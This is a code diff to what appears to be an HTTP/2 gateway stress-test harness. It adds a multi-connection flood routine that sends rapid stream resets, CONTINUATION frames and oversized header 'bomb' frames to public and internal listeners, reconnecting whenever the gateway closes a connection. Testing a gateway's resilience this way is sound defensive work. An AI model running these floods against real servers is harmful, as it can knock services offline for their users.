@@ -1,13 +1,79 @@
 // HTTP/2 floods: streams reset at once, and frames that cost the gateway more than their sender.
 
-import { data, frame, openStream, openStreamInParts, ping, resetStream, settings } from "../frames.ts";
-import { flood } from "./http2-connections.ts";
-import { framesOf, get, LOGIN_BODY, login } from "./requests.ts";
-import type { AttackPlan } from "./target.ts";
+import type { Socket } from "node:net";
+import {
+  CONTINUATION,
+  data,
+  END_HEADERS,
+  END_STREAM,
+  frame,
+  HEADERS,
+  openStream,
+  openStreamInParts,
+  PREFACE,
+  ping,
+  resetStream,
+  settings,
+} from "../frames.ts";
+import { framesOf, get } from "../http2-requests.ts";
+import { openSocket, writeAll } from "./connections.ts";
+import { LOGIN_BODY, login } from "./requests.ts";
+import { type Attack, type AttackPlan, forEachIndex } from "./target.ts";
 
-const CONTINUATION = 0x9;
-const HEADERS = 0x1;
-const END_STREAM_AND_HEADERS = 0x5;
+const LANES = 8;
+const REFUSED_ROW = 20;
+const STUCK_MS = 2_000;
+const GREETING = Buffer.concat([PREFACE, settings()]);
+
+/** The bytes that one connection of a flood sends: `batch` makes the frames of `count` units from `first` on. */
+interface Flood {
+  /** Units at full scale. */
+  readonly count: number;
+  /** Units in one write. */
+  readonly size: number;
+  readonly batch: (first: number, size: number) => Buffer;
+  /** Streams that a connection can have: then it opens anew. */
+  readonly unitsPerConnection?: number;
+  /** Whether it reads what the gateway sends; true when absent. */
+  readonly reads?: boolean;
+}
+
+/** Sends `count` units over a few connections, at both listeners in turn. They open anew as often as the gateway ends them. */
+function flood({ count, size, batch, unitsPerConnection = 1e9, reads = true }: Flood): AttackPlan {
+  const run: Attack = async (target, count, findings) => {
+    let sent = 0;
+    await forEachIndex(LANES, LANES, async (lane) => {
+      const url = lane % 2 === 0 ? target.publicUrl : target.internalUrl;
+      let refused = 0;
+      while (sent < count && refused < REFUSED_ROW) {
+        const socket = await openSocket(url, lane);
+        if (socket === undefined) {
+          refused++;
+          continue;
+        }
+        refused = 0;
+        if (reads) socket.resume();
+        else socket.pause();
+        await writeAll(socket, GREETING);
+        for (let units = 0; units < unitsPerConnection && sent < count && !socket.destroyed; units += size) {
+          sent += size;
+          await writeUnlessStuck(socket, batch(units, size));
+        }
+        socket.destroy();
+      }
+    });
+    if (sent < count) findings.add(`connections were refused after ${sent}`);
+  };
+  return { count, run };
+}
+
+/** A gateway that reads no more has stopped the flood: the connection is given up. */
+async function writeUnlessStuck(socket: Socket, bytes: Buffer): Promise<void> {
+  const timer = setTimeout(() => socket.destroy(), STUCK_MS);
+  await writeAll(socket, bytes);
+  clearTimeout(timer);
+}
+
 /** Node takes stream numbers up to 2^31. */
 const STREAMS = 10_000;
 const PAGE = 16 * 1024;
@@ -32,7 +98,7 @@ function bomb(unit: number): Buffer {
   const head = unit === 0 ? ENTRY : ENTRY.subarray(0, 3);
   return frame(
     HEADERS,
-    END_STREAM_AND_HEADERS,
+    END_STREAM | END_HEADERS,
     streamOf(unit),
     Buffer.concat([head, Buffer.alloc(PAGE - 400, NEWEST)]),
   );
